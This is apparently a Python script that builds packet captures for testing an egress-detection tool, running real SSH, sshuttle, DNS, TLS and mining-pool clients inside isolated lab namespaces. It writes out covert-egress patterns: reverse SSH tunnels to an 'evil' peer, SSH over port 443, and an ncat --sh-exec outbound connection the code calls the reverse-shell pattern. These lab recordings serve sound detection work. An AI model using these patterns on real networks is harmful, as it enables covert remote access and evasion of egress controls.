"""Regenerate the shipped captures: real programs in the namespace lab, recorded by tcpdump.

Why a script and not hand-made packets: ``egressd test`` is only worth something if the
captures it is checked against are what OpenSSH, curl, dig and a miner's wire protocol
really put on a link. Every capture here is made the same way: one lab (two network
namespaces on documentation addresses, see ``lab/egressd_lab/netns.py``), the peers of
``egressd_lab.peers`` started in the "inet" namespace, tcpdump on the node's veth limited to
the peers of that capture, the client run in the node namespace, tcpdump stopped, the file
checked and moved into place.

Run it as root through ``pcaps/make.sh`` (all captures) or ``make.sh NAME...``. It is
idempotent (a capture is replaced only when it was made and checked successfully),
bounded (every program has a timeout; the lab is removed with everything in it on any
exit), and re-runnable: the bytes differ per run (timestamps, keys, MACs, ports), the flows
and what they carry do not. After writing a capture it checks that every flow named in
``<name>.expect.yaml`` is present in it, so an expectation can never silently refer to a
flow the capture does not contain.
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import os
import shlex
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from ipaddress import ip_address
from pathlib import Path
from typing import Any

import yaml

from egressd.packet import PROTO_TCP, PROTO_UDP, TCP_ACK, TCP_SYN, Packet, decode
from egressd.pcapio import Reader
from egressd_lab import capture, peers
from egressd_lab.capture import MakeError, node_veth
from egressd_lab.netns import NODE_V4, SERVICES, Lab, lab

HERE = Path(__file__).resolve().parent
SSH_ALLOWED = SERVICES["ssh_allowed"][0]
SSH_EVIL = SERVICES["ssh_evil"][0]
POOL, POOL6 = SERVICES["pool"]
TLS = SERVICES["tls"][0]
TLS_POOL = SERVICES["tls_pool"][0]
PROXY = SERVICES["proxy"][0]
DNS = SERVICES["dns"][0]
BULK = SERVICES["bulk"][0]
BULK_BYTES = 256 * 1024
FWD_PORT = 8080  # on SSH_ALLOWED: what ssh -L / -D captures connect to through the tunnel
PY = sys.executable
APT_PACKAGES = (
    "tcpdump openssh-client openssh-server openssl curl bind9-dnsutils dnsmasq-base ncat microsocks iproute2 "
    "git rsync dropbear-bin sshuttle"
)


def log(msg: str) -> None:
    print(f"[make] {msg}", flush=True)


@dataclass
class Ctx(capture.Ctx):
    """What a capture recipe may use: the lab's (egressd_lab.capture) and the node's own sshd."""

    node_sshd: peers.Sshd

    # -- clients ------------------------------------------------------------------------------
    def stratum_client(self, target: str, variant: str, *extra: str) -> dict[str, Any]:
        rc, rep = peers.stratum_client(self.lab, target, variant, *extra, timeout=8)
        if rc != 0 or not rep.get("handshake_complete"):
            raise MakeError(f"stratum client {variant} -> {target} did not complete: {rep}")
        return rep

    def dig(self, name: str, rtype: str, sport: int, tcp: bool = False) -> str:
        argv = ["dig", "-r", f"@{DNS}", "-b", f"{NODE_V4}#{sport}", name, rtype, "+time=2", "+tries=1"]
        out = self.node([*argv, "+tcp"] if tcp else argv).stdout
        if "status: NOERROR" not in out:
            raise MakeError(f"dig {name} {rtype} failed:\n{out}")
        return out

    # -- servers ------------------------------------------------------------------------------
    @contextlib.contextmanager
    def pool(self, variant: str, addr: str, port: int) -> Iterator[peers.Pool]:
        p = peers.start_pool(self.lab, self.tmp, variant, addr, port, lifetime=120)
        try:
            yield p
        finally:
            self.lab.stop(p.proc)


def _wait_listening(c: Ctx, ns: str, port: int, timeout: float = 5.0, addr: str | None = None) -> None:
    try:
        peers.wait_listening(c.lab, ns, [(addr, port)], timeout=timeout)
    except peers.PeerError as e:
        raise MakeError(str(e)) from e


# =================================================================================================
# The peers: egressd_lab.peers, as the demo and the end-to-end tests start them
# =================================================================================================
def start_peers(lb: Lab, tmp: Path, files: contextlib.ExitStack) -> Ctx:
    """The peers every capture may use; the lab stops them all when it closes."""
    keys = peers.make_ssh_keys(tmp)
    cert = peers.make_cert(tmp, ["tls.example.net", "xmr-eu1.nanopool.org", "bulk.example.net"])
    www = peers.make_bulk_file(tmp / "www", BULK_BYTES, seed=b"egressd-bulk").path.parent
    peers.start_sshd(lb, tmp, keys, [(SSH_EVIL, 22), (SSH_EVIL, 443), (SSH_ALLOWED, 22)], name="sshd-inet")
    # What a reverse tunnel leads back to, and what the role-inversion capture serves with ``sshd -i``.
    node_sshd = peers.start_sshd(lb, tmp, keys, [("127.0.0.1", 22)], ns="node", name="sshd-node")
    peers.start_dnsmasq(lb, tmp, peers.lab_dns_names(), [DNS])
    peers.start_http_proxy(lb, tmp, PROXY, 3128)
    peers.start_socks_proxy(lb, tmp, PROXY, 1080)
    for addr in (TLS, TLS_POOL):
        peers.start_tls_server(lb, tmp, cert, addr)
    peers.start_tls_server(lb, tmp, cert, BULK, www=www)
    # What the SSH usage captures reach through their forwards, copy and clone.
    lb.spawn(
        "inet", ["ncat", "-lk", SSH_ALLOWED, str(FWD_PORT), "--sh-exec", "echo forwarded-ok"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    srv = tmp / "srv"
    srv.mkdir(exist_ok=True)
    (srv / "file.bin").write_bytes(hashlib.sha256(b"egressd-scp").digest() * 128)  # 4 KiB
    subprocess.run(["git", "init", "-q", "--bare", str(srv / "repo.git")], check=True, timeout=30)
    # What sshuttle routes through its session: only the far side's ncat answers here.
    lb.spawn(
        "inet", ["ncat", "-lk", TLS, str(FWD_PORT), "--sh-exec", "echo sshuttle-ok"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    peers.wait_listening(lb, "inet", [(SSH_ALLOWED, FWD_PORT), (TLS, FWD_PORT)])
    return Ctx(lb, tmp, files, keys, node_sshd)


# =================================================================================================
# Capture recipes# =================================================================================================
# Capture recipes: each drives real programs once; the filter keeps only the peers involved.
# =================================================================================================
@dataclass(frozen=True)
class Recipe:
    name: str
    bpf: str
    run: Callable[[Ctx], None]


def _ssh_reverse(host: str) -> Callable[[Ctx], None]:
    def run(c: Ctx) -> None:
        # ssh -N -R: the node opens the connection, the far side later opens channels back.
        tun = c.lab.spawn(
            "node",
            c.ssh_argv(host, "-N", "-R", "2222:127.0.0.1:22", "-o", "ExitOnForwardFailure=yes"),
            stdin=subprocess.DEVNULL, stderr=c.logfile(f"ssh-R-{host}.log"),
        )  # fmt: skip
        try:
            _wait_listening(c, "inet", 2222, timeout=10)
            # Someone on the far side uses the tunnel: an SSH session back into the node.
            argv = [*c.ssh_argv("127.0.0.1", port=2222), "echo reverse-ok"]
            p = c.lab.run_inet(argv, timeout=20)
            if "reverse-ok" not in p.stdout:
                raise MakeError(f"ssh back through the reverse tunnel failed: {p.stderr.strip()}")
            time.sleep(1.0)
        finally:
            c.lab.stop(tun)

    return run


def _ssh_role_inversion(c: Ctx) -> None:
    """The node dials out and then *serves* SSH on that connection (``sshd -i`` behind an
    outbound ncat): the reverse-shell pattern, with the roles inverted on the wire."""
    out = c.tmp / "inverted-ssh.out"
    listener = c.lab.spawn(
        "inet",
        [*c.ssh_argv("node", "-o", f"ProxyCommand=ncat -l {SSH_ALLOWED} 443"), "echo reverse-ok"],
        stdin=subprocess.DEVNULL, stdout=c.logfile("inverted-ssh.out"), stderr=c.logfile("inverted-ssh.err"),
    )  # fmt: skip
    try:
        _wait_listening(c, "inet", 443, timeout=10, addr=SSH_ALLOWED)
        sshd_i = " ".join(c.node_sshd.inetd_argv())
        c.node(["ncat", "--sh-exec", sshd_i, SSH_ALLOWED, "443"], timeout=20)
        listener.wait(10)
        if "reverse-ok" not in out.read_text():
            raise MakeError(f"the inverted SSH session did not run: {(c.tmp / 'inverted-ssh.err').read_text()}")
    finally:
        c.lab.stop(listener)


def _ssh_cmd(host: str, *options: str, port: int = 22) -> Callable[[Ctx], None]:
    def run(c: Ctx) -> None:
        p = c.node([*c.ssh_argv(host, *options, port=port), "echo ssh-ok"])
        if "ssh-ok" not in p.stdout:
            raise MakeError(f"ssh {host}: {p.stderr}")

    return run


def _ssh_via_connect(c: Ctx) -> None:
    proxy = f"ProxyCommand=ncat --proxy {PROXY}:3128 --proxy-type http %h %p"
    _ssh_cmd(SSH_EVIL, "-o", proxy)(c)


def _curl(name: str, addr: str, path: str = "/", expect_bytes: int = 0) -> Callable[[Ctx], None]:
    def run(c: Ctx) -> None:
        argv = [
            "curl", "-sS", "--noproxy", "*", "--max-time", "15", "--cacert", str(c.tmp / "tls.crt"),
            "--resolve", f"{name}:443:{addr}", f"https://{name}{path}", "-o", "/dev/null",
            "-w", "%{http_code} %{size_download}",
        ]  # fmt: skip
        out = c.node(argv).stdout.split()
        if out[0] != "200" or int(out[1]) < expect_bytes:
            raise MakeError(f"curl https://{name}{path} -> {out}")

    return run


def _dns(c: Ctx) -> None:
    c.dig("tls.example.net", "A", 40001)
    c.dig("xmr.nanopool.org", "A", 40002)
    c.dig("pool.example.net", "A", 40003, tcp=True)
    c.dig("xmr.nanopool.org", "AAAA", 40004, tcp=True)


def _dns_then_stratum(c: Ctx) -> None:
    out = c.dig("xmr.nanopool.org", "A", 40010)
    if POOL not in out:
        raise MakeError(f"xmr.nanopool.org did not resolve to {POOL}: {out}")
    with c.pool("xmr", POOL, 14444):
        c.stratum_client(f"{POOL}:14444", "xmr")


def _stratum(variant: str, addr: str, port: int, *extra: str) -> Callable[[Ctx], None]:
    def run(c: Ctx) -> None:
        with c.pool(variant if variant != "gbt" else "getwork", addr, port) as pool:
            c.stratum_client(peers.hostport(addr, port), variant, *extra)
            got = pool.events()
            if not pool.requests():
                raise MakeError(f"the {variant} pool logged no request: {got}")

    return run


# -- what an SSH session is used for (docs/ssh-usage.md), per client and cipher ------------------
SSH_CIPHERS: dict[str, tuple[str, ...]] = {
    "chacha": ("-c", "chacha20-poly1305@openssh.com"),
    "gcm": ("-c", "aes256-gcm@openssh.com"),
    "ctr-etm": ("-c", "aes128-ctr", "-o", "MACs=hmac-sha2-256-etm@openssh.com"),
    "ctr": ("-c", "aes256-ctr", "-o", "MACs=hmac-sha2-512"),
}


def _opts(c: Ctx, cipher: str, port_flag: str = "-p") -> list[str]:
    """ssh_argv's options without the program and the destination: for rsync's and git's
    ssh (``-p``), or scp/sftp (``port_flag="-P"``: their -p means something else)."""
    return [port_flag if o == "-p" else o for o in c.ssh_argv(SSH_ALLOWED, *SSH_CIPHERS[cipher])[1:-1]]


def _bg(c: Ctx, argv: list[str], name: str) -> subprocess.Popen[bytes]:
    return c.lab.spawn("node", argv, stdin=subprocess.DEVNULL, stdout=c.logfile(f"{name}.out"),
                       stderr=c.logfile(f"{name}.err"))  # fmt: skip


def _use_openssh(use: str, cipher: str) -> Callable[[Ctx], None]:
    def run(c: Ctx) -> None:
        cargs = SSH_CIPHERS[cipher]
        srv = c.tmp / "srv"
        if use in ("remote-N", "remote-used", "local", "dynamic", "tun"):
            fwd = {
                "remote-N": ["-R", "2222:127.0.0.1:22"],
                "remote-used": ["-R", "2223:127.0.0.1:22"],
                "local": ["-L", f"9001:{SSH_ALLOWED}:{FWD_PORT}"],
                "dynamic": ["-D", "9002"],
                "tun": ["-w", "5:5"],
            }[use]
            tun = _bg(c, c.ssh_argv(SSH_ALLOWED, *cargs, "-N", *fwd, "-o", "ExitOnForwardFailure=yes"), f"ssh-{use}")
            try:
                if use == "remote-N":
                    _wait_listening(c, "inet", 2222, timeout=10)
                    time.sleep(1.0)
                elif use == "remote-used":
                    _wait_listening(c, "inet", 2223, timeout=10)
                    p = c.lab.run_inet([*c.ssh_argv("127.0.0.1", port=2223), "echo reverse-ok"], timeout=20)
                    if "reverse-ok" not in p.stdout:
                        raise MakeError(f"ssh back through the reverse tunnel failed: {p.stderr.strip()}")
                elif use in ("local", "dynamic"):
                    port = 9001 if use == "local" else 9002
                    _wait_listening(c, "node", port, timeout=10)
                    via = [] if use == "local" else ["--proxy-type", "socks5", "--proxy", "127.0.0.1:9002"]
                    target = ["127.0.0.1", "9001"] if use == "local" else [SSH_ALLOWED, str(FWD_PORT)]
                    p = c.node(["ncat", "--recv-only", *via, *target], timeout=10)
                    if "forwarded-ok" not in p.stdout:
                        raise MakeError(f"nothing came through ssh {fwd}: {p.stdout!r} {p.stderr!r}")
                else:
                    deadline = time.monotonic() + 10
                    while "tun5" not in c.lab.run_node(["ip", "-o", "link"], timeout=5).stdout:
                        if time.monotonic() > deadline:
                            raise MakeError("ssh -w: no tun5 in the node namespace")
                        time.sleep(0.1)
                    time.sleep(0.5)
                time.sleep(0.5)
            finally:
                c.lab.stop(tun)
            return
        o = _opts(c, cipher)
        op = _opts(c, cipher, "-P")
        if use == "cmd":
            p = c.node([*c.ssh_argv(SSH_ALLOWED, *cargs), "echo ssh-ok"])
            if "ssh-ok" not in p.stdout:
                raise MakeError(f"ssh cmd: {p.stderr}")
        elif use == "cmd-controlmaster":
            # A multiplexing master (as Ansible and many ssh_configs use): no no-more-sessions,
            # the session open goes out alone.
            mux = ["-o", "ControlMaster=yes", "-o", f"ControlPath={c.tmp}/mux-{cipher}", "-o", "ControlPersist=no"]
            p = c.node([*c.ssh_argv(SSH_ALLOWED, *cargs, *mux), "echo ssh-ok"])
            if "ssh-ok" not in p.stdout:
                raise MakeError(f"ssh cmd (ControlMaster): {p.stderr}")
        elif use in ("cmd-stdin", "cmd-bash-s"):
            # Look-alikes of sshuttle's bootstrap: a long command fed a large stdin. `cat` answers
            # after the end of its input, `bash -s` answers while it reads.
            pad = "#" + "x" * 120  # a command as long as sshuttle's
            if use == "cmd-stdin":
                data = hashlib.sha256(b"stdin").digest() * 600  # 19 KB
                cmd, proof = f"cat > {c.tmp}/stdin.out; echo ok {pad}", "ok"
            else:
                data = "".join(f"echo line {i}\n" for i in range(1500)).encode()
                cmd, proof = f"bash -s -- {pad}", "line 1499"
            p = subprocess.run(c.lab.node_cmd([*c.ssh_argv(SSH_ALLOWED, *cargs), cmd]), input=data,
                               capture_output=True, timeout=20)  # fmt: skip
            if proof.encode() not in p.stdout:
                raise MakeError(f"ssh {use}: {p.stderr[-300:]!r}")
        elif use in ("scp-push", "rsync-push"):
            # Uploads to a long remote path (a command as long as sshuttle's loader): the
            # server speaks, or both sides exchange small messages, before the file data.
            deep = srv / ("d" * 60) / ("e" * 60)
            deep.mkdir(parents=True, exist_ok=True)
            local = c.tmp / f"push-{cipher}.bin"
            local.write_bytes(hashlib.sha256(b"push").digest() * 640)  # 20 KB
            if use == "scp-push":
                c.node(["scp", "-O", *op, str(local), f"root@{SSH_ALLOWED}:{deep}/"])
            else:
                c.node(["rsync", "-a", "-e", " ".join(["ssh", *o]), str(local), f"root@{SSH_ALLOWED}:{deep}/"])
        elif use == "sshuttle":
            # sshuttle 1.1 (Debian 12) with this ssh, routing one service address through the session.
            ssh_cmd = " ".join(shlex.quote(x) for x in ["ssh", *c.ssh_argv(SSH_ALLOWED, *cargs)[1:-1]])
            argv = ["sshuttle", "-r", f"root@{SSH_ALLOWED}", f"{TLS}/32", "-e", ssh_cmd]
            vpn = _bg(c, argv, f"sshuttle-{cipher}")
            try:
                # sshuttle says so once its server answered and its routes are in place; a probe
                # before that would reach the service directly, not through the session.
                err, deadline = c.tmp / f"sshuttle-{cipher}.err", time.monotonic() + 20
                while "Connected to server" not in err.read_text() and time.monotonic() < deadline:
                    time.sleep(0.2)
                while "-A OUTPUT -j sshuttle" not in c.lab.run_node(["iptables", "-t", "nat", "-S"], timeout=5).stdout:
                    if time.monotonic() > deadline:
                        raise MakeError("sshuttle installed no redirect")
                    time.sleep(0.2)
                deadline, got = time.monotonic() + 15, ""
                while "sshuttle-ok" not in got and time.monotonic() < deadline:
                    time.sleep(0.5)
                    probe = ["ncat", "--recv-only", "-w", "2", "-i", "2", TLS, str(FWD_PORT)]
                    got = c.lab.run_node(probe, timeout=10).stdout
                if "sshuttle-ok" not in got or "Connected to server" not in err.read_text():
                    raise MakeError(f"nothing came through sshuttle: {err.read_text()[-500:]}")
                time.sleep(0.5)
            finally:
                c.lab.stop(vpn)
        elif use == "remote-cmd":
            p = c.node([*c.ssh_argv(SSH_ALLOWED, *cargs, "-R", "2224:127.0.0.1:22"), "sleep 1; echo ssh-ok"])
            if "ssh-ok" not in p.stdout:
                raise MakeError(f"ssh -R cmd: {p.stderr}")
        elif use == "shell":
            p = subprocess.run(
                c.lab.node_cmd([*c.ssh_argv(SSH_ALLOWED, *cargs, "-tt")]), input="echo shell-ok\nexit\n",
                capture_output=True, text=True, timeout=20,
            )  # fmt: skip
            if "shell-ok" not in p.stdout:
                raise MakeError(f"ssh shell: {p.stderr}")
        elif use == "scp":
            c.node(["scp", *op, f"root@{SSH_ALLOWED}:{srv}/file.bin", str(c.tmp / "scp.out")])
        elif use == "scp-legacy":
            c.node(["scp", "-O", *op, f"root@{SSH_ALLOWED}:{srv}/file.bin", str(c.tmp / "scp-O.out")])
        elif use == "sftp":
            batch = c.tmp / "sftp.batch"
            batch.write_text(f"get {srv}/file.bin {c.tmp}/sftp.out\nls {srv}\n")
            c.node(["sftp", *op, "-b", str(batch), f"root@{SSH_ALLOWED}"])
        elif use == "rsync":
            c.node(["rsync", "-a", "-e", " ".join(["ssh", *o]), f"root@{SSH_ALLOWED}:{srv}/file.bin",
                    str(c.tmp / "rsync.out")])  # fmt: skip
        elif use in ("git-clone", "git-push"):
            work = c.tmp / f"git-{cipher}-{use}"
            env = f"GIT_SSH_COMMAND={' '.join(['ssh', *o])}"
            if use == "git-push":
                c.node(["env", env, "git", "init", "-q", str(work)])
                c.node(["git", "-C", str(work), "-c", "user.name=lab", "-c", "user.email=lab@example.org",
                        "commit", "-q", "--allow-empty", "-m", f"push {cipher}"])  # fmt: skip
                c.node(["env", env, "git", "-C", str(work), "push", "-q",
                        f"root@{SSH_ALLOWED}:{srv}/repo.git", f"HEAD:refs/heads/{cipher}"])  # fmt: skip
            else:
                c.node(["env", env, "git", "clone", "-q", f"root@{SSH_ALLOWED}:{srv}/repo.git", str(work)])
        else:
            raise MakeError(f"unknown SSH use {use}")

    return run


DROPBEAR_CIPHERS: dict[str, tuple[str, ...]] = {
    "chacha": ("-c", "chacha20-poly1305@openssh.com"),
    "ctr": ("-c", "aes256-ctr", "-m", "hmac-sha2-256"),
}


def _dbclient(c: Ctx, cipher: str, *extra: str) -> list[str]:
    """dropbear's client: -y -y accepts the throw-away host key, the key converted to its format."""
    key = c.tmp / "client_key.dropbear"
    if not key.exists():
        p = subprocess.run(["dropbearconvert", "openssh", "dropbear", str(c.keys.client_key), str(key)],
                           capture_output=True, text=True, timeout=30)  # fmt: skip
        if p.returncode != 0:
            raise MakeError(f"dropbearconvert: {p.stderr.strip()}")
    return ["dbclient", "-y", "-y", "-i", str(key), *DROPBEAR_CIPHERS[cipher], *extra]


def _use_dropbear(use: str, cipher: str) -> Callable[[Ctx], None]:
    def run(c: Ctx) -> None:
        srv = c.tmp / "srv"
        dest = f"root@{SSH_ALLOWED}"
        if use in ("remote-N", "local"):
            fwd = ["-R", "2225:127.0.0.1:22"] if use == "remote-N" else ["-L", f"9003:{SSH_ALLOWED}:{FWD_PORT}"]
            tun = _bg(c, _dbclient(c, cipher, "-N", *fwd, dest), f"dbclient-{use}")
            try:
                if use == "remote-N":
                    _wait_listening(c, "inet", 2225, timeout=10)
                    time.sleep(1.0)
                else:
                    _wait_listening(c, "node", 9003, timeout=10)
                    p = c.node(["ncat", "--recv-only", "127.0.0.1", "9003"], timeout=10)
                    if "forwarded-ok" not in p.stdout:
                        raise MakeError(f"nothing came through dbclient -L: {p.stdout!r} {p.stderr!r}")
                    time.sleep(0.5)
            finally:
                c.lab.stop(tun)
        elif use == "cmd":
            p = c.node([*_dbclient(c, cipher, dest), "echo ssh-ok"])
            if "ssh-ok" not in p.stdout:
                raise MakeError(f"dbclient cmd: {p.stderr}")
        elif use == "remote-cmd":
            p = c.node([*_dbclient(c, cipher, "-R", "2226:127.0.0.1:22", dest), "sleep 1; echo ssh-ok"])
            if "ssh-ok" not in p.stdout:
                raise MakeError(f"dbclient -R cmd: {p.stderr}")
        elif use == "rsync":
            c.node(["rsync", "-a", "-e", " ".join(_dbclient(c, cipher)), f"{dest}:{srv}/file.bin",
                    str(c.tmp / f"db-rsync-{cipher}.out")])  # fmt: skip
        elif use == "git-clone":
            wrapper = c.tmp / f"git-dbclient-{cipher}.sh"
            wrapper.write_text("#!/bin/sh\nexec " + " ".join(_dbclient(c, cipher)) + ' "$@"\n')
            wrapper.chmod(0o755)
            c.node(["env", f"GIT_SSH={wrapper}", "GIT_SSH_VARIANT=simple", "git", "clone", "-q",
                    f"{dest}:{srv}/repo.git", str(c.tmp / f"git-db-{cipher}")])  # fmt: skip
        else:
            raise MakeError(f"unknown dropbear use {use}")

    return run


DROPBEAR_USES = ("remote-N", "remote-cmd", "local", "cmd", "rsync", "git-clone")

PY_CLIENTS: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    # client: (uses, ciphers) - pcaps/sshclients.py says what each does
    "paramiko": (("cmd", "remote-N", "local", "sftp"), ("ctr", "ctr-etm", "gcm")),
    "asyncssh": (("cmd", "remote-N", "local", "sftp"), ("chacha", "gcm", "ctr-etm", "ctr")),
    "sshtunnel": (("local",), ("ctr",)),
}
_PY_PROOF = {"cmd": "ssh-ok", "remote-N": "remote forward on", "local": "forwarded-ok", "sftp": "sftp 4096 bytes"}


def _use_python(client: str, use: str, cipher: str) -> Callable[[Ctx], None]:
    def run(c: Ctx) -> None:
        argv = [PY, str(HERE / "sshclients.py"), client, use, cipher, "--host", SSH_ALLOWED,
                "--key", str(c.keys.client_key), "--srv", str(c.tmp / "srv")]  # fmt: skip
        p = c.node(argv, timeout=30)
        if _PY_PROOF[use] not in p.stdout:
            raise MakeError(f"{client} {use} {cipher}: {p.stdout!r} {p.stderr[-500:]!r}")

    return run


SSH_USES = (
    "remote-N", "remote-cmd", "remote-used", "local", "dynamic", "tun",
    "cmd", "cmd-controlmaster", "cmd-stdin", "cmd-bash-s", "shell", "scp", "scp-legacy", "scp-push", "sftp", "rsync",
    "rsync-push", "git-clone", "git-push", "sshuttle",
)  # fmt: skip


def _host(*addrs: str) -> str:
    return " or ".join(f"host {a}" for a in addrs)


RECIPES: list[Recipe] = [
    Recipe("ssh-reverse-tunnel", _host(SSH_EVIL), _ssh_reverse(SSH_EVIL)),
    Recipe("ssh-allowed-remote-forward", _host(SSH_ALLOWED), _ssh_reverse(SSH_ALLOWED)),
    Recipe("ssh-role-inversion", _host(SSH_ALLOWED), _ssh_role_inversion),
    Recipe("ssh-on-443", _host(SSH_EVIL), _ssh_cmd(SSH_EVIL, port=443)),
    Recipe("ssh-allowed", _host(SSH_ALLOWED), _ssh_cmd(SSH_ALLOWED)),
    Recipe("ssh-via-connect-proxy", _host(PROXY), _ssh_via_connect),
    Recipe("tls-sni", _host(TLS), _curl("tls.example.net", TLS)),
    Recipe("tls-pool-domain", _host(TLS_POOL), _curl("xmr-eu1.nanopool.org", TLS_POOL)),
    Recipe("benign-https", _host(BULK), _curl("bulk.example.net", BULK, "/blob.bin", BULK_BYTES)),
    Recipe("dns", _host(DNS), _dns),
    Recipe("dns-then-stratum", _host(DNS, POOL), _dns_then_stratum),
    Recipe("stratum-v1", _host(POOL), _stratum("v1", POOL, 3333)),
    Recipe("stratum-v1-443", _host(POOL), _stratum("v1", POOL, 443)),
    Recipe("stratum-v1-configure", _host(POOL), _stratum("v1", POOL, 3333, "--configure")),
    Recipe("stratum-split", _host(POOL), _stratum("v1", POOL, 3333, "--split", "1")),
    Recipe("stratum-v6", _host(POOL6), _stratum("v1", POOL6, 3333)),
    Recipe("stratum-eth", _host(POOL), _stratum("eth", POOL, 4444)),
    Recipe("stratum-ethproxy", _host(POOL), _stratum("ethproxy", POOL, 8008)),
    Recipe("xmr-login", _host(POOL), _stratum("xmr", POOL, 5555)),
    Recipe("getwork-http", _host(POOL), _stratum("getwork", POOL, 8332)),
    Recipe("getblocktemplate-http", _host(POOL), _stratum("gbt", POOL, 80)),
    Recipe(
        "stratum-via-connect-proxy",
        _host(PROXY),
        _stratum("v1", POOL, 3333, "--via-connect", f"{PROXY}:3128"),
    ),
    Recipe("stratum-via-socks5", _host(PROXY), _stratum("xmr", POOL, 3333, "--via-socks5", f"{PROXY}:1080")),
]


# git-push needs something to clone: run after git-clone's own empty repository is fine (a
# clone of an empty repository is still a full SSH exchange), so the order below does not matter.
RECIPES += [
    Recipe(f"ssh-use-openssh-{use}-{cipher}", _host(SSH_ALLOWED), _use_openssh(use, cipher))
    for use in SSH_USES
    for cipher in SSH_CIPHERS
]
RECIPES += [
    Recipe(f"ssh-use-{client}-{use}-{cipher}", _host(SSH_ALLOWED), _use_python(client, use, cipher))
    for client, (uses, ciphers) in PY_CLIENTS.items()
    for use in uses
    for cipher in ciphers
]
RECIPES += [
    Recipe(f"ssh-use-dropbear-{use}-{cipher}", _host(SSH_ALLOWED), _use_dropbear(use, cipher))
    for use in DROPBEAR_USES
    for cipher in DROPBEAR_CIPHERS
]


# =================================================================================================
# Capturing and checking
# =================================================================================================
FlowKey = tuple[int, str, int, str, int]


def flows_in(path: Path) -> dict[FlowKey, int]:
    """Flows by originator (the sender of a SYN without ACK, or of the first UDP datagram)."""
    flows: dict[FlowKey, int] = {}
    seen: set[frozenset[tuple[str, int]] | tuple[int, frozenset[tuple[str, int]]]] = set()
    for _ts, raw in Reader(path):
        p = decode(raw)
        if not isinstance(p, Packet) or p.proto not in (PROTO_TCP, PROTO_UDP):
            continue
        src, dst = str(ip_address(p.src)), str(ip_address(p.dst))
        pair = (p.proto, frozenset({(src, p.sport), (dst, p.dport)}))
        is_syn = p.proto == PROTO_TCP and p.tcp_flags & (TCP_SYN | TCP_ACK) == TCP_SYN
        if pair in seen and not is_syn:
            continue
        if p.proto == PROTO_TCP and not is_syn:
            continue  # a TCP flow whose SYN was not captured: its originator is unknown
        seen.add(pair)
        key = (p.proto, src, p.sport, dst, p.dport)
        flows[key] = flows.get(key, 0) + 1
    return flows


_PROTO = {"tcp": PROTO_TCP, "udp": PROTO_UDP}


def check_expectations(name: str, path: Path) -> None:
    spec = yaml.safe_load((HERE / f"{name}.expect.yaml").read_text())
    flows = flows_in(path)
    for f in spec["flows"]:
        m = f["match"]
        hits = [
            k for k in flows
            if ("proto" not in m or _PROTO[m["proto"]] == k[0]) and ("src" not in m or str(m["src"]) == k[1])
            and ("src_port" not in m or m["src_port"] == k[2]) and ("dst" not in m or str(m["dst"]) == k[3])
            and ("dst_port" not in m or m["dst_port"] == k[4])
        ]  # fmt: skip
        if not hits or ("count" in f and len(hits) != f["count"]):
            raise MakeError(f"{name}: expectation {m} matches {len(hits)} flows in the capture: {sorted(flows)}")


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description="regenerate pcaps/*.pcap with real programs in the lab")
    ap.add_argument("names", nargs="*", help="captures to make (default: all)")
    ap.add_argument("--list", action="store_true", help="list the captures and exit")
    ap.add_argument("--check-only", action="store_true", help="check existing captures against expectations")
    args = ap.parse_args(argv)
    known = {r.name: r for r in RECIPES}
    if args.list:
        print("\n".join(known))
        return 0
    unknown = [n for n in args.names if n not in known]
    if unknown:
        ap.error(f"unknown capture(s) {unknown}; known: {', '.join(known)}")
    chosen = [known[n] for n in args.names] if args.names else RECIPES
    missing = [r.name for r in chosen if not (HERE / f"{r.name}.expect.yaml").exists()]
    if missing:
        raise MakeError(f"no expectation file for {missing}: write pcaps/<name>.expect.yaml first")
    if args.check_only:
        for r in chosen:
            check_expectations(r.name, HERE / f"{r.name}.pcap")
            log(f"{r.name}: expectations match the capture's flows")
        return 0
    if os.geteuid() != 0:
        raise MakeError("needs root (network namespaces, tcpdump): run pcaps/make.sh")
    for tool in (
        "tcpdump",
        "ssh",
        "/usr/sbin/sshd",
        "ssh-keygen",
        "openssl",
        "curl",
        "dig",
        "dnsmasq",
        "ncat",
        "microsocks",
        "ss",
    ):
        if shutil.which(tool) is None:
            raise MakeError(f"{tool} is not installed; apt: {APT_PACKAGES}")
    # SIGTERM (a CI timeout, kill) must unwind like Ctrl-C so the lab and its peers go away.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    with (
        tempfile.TemporaryDirectory(prefix="egressd-pcaps-") as td,
        contextlib.ExitStack() as files,
        lab(f"egdcap{os.getpid() % 10000}") as lb,
    ):
        c = start_peers(lb, Path(td), files)
        dev = node_veth(c)
        for r in chosen:
            t0 = time.monotonic()
            out = capture.record(c, r.name, r.bpf, dev, partial(r.run, c))
            check_expectations(r.name, out)
            shutil.move(str(out), HERE / f"{r.name}.pcap")
            n = sum(1 for _ in Reader(HERE / f"{r.name}.pcap"))
            log(f"{r.name}.pcap: {n} packets, {(HERE / f'{r.name}.pcap').stat().st_size} bytes, "
                f"{time.monotonic() - t0:.1f} s")  # fmt: skip
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except MakeError as e:
        print(f"make.py: {e}", file=sys.stderr)
        sys.exit(1)
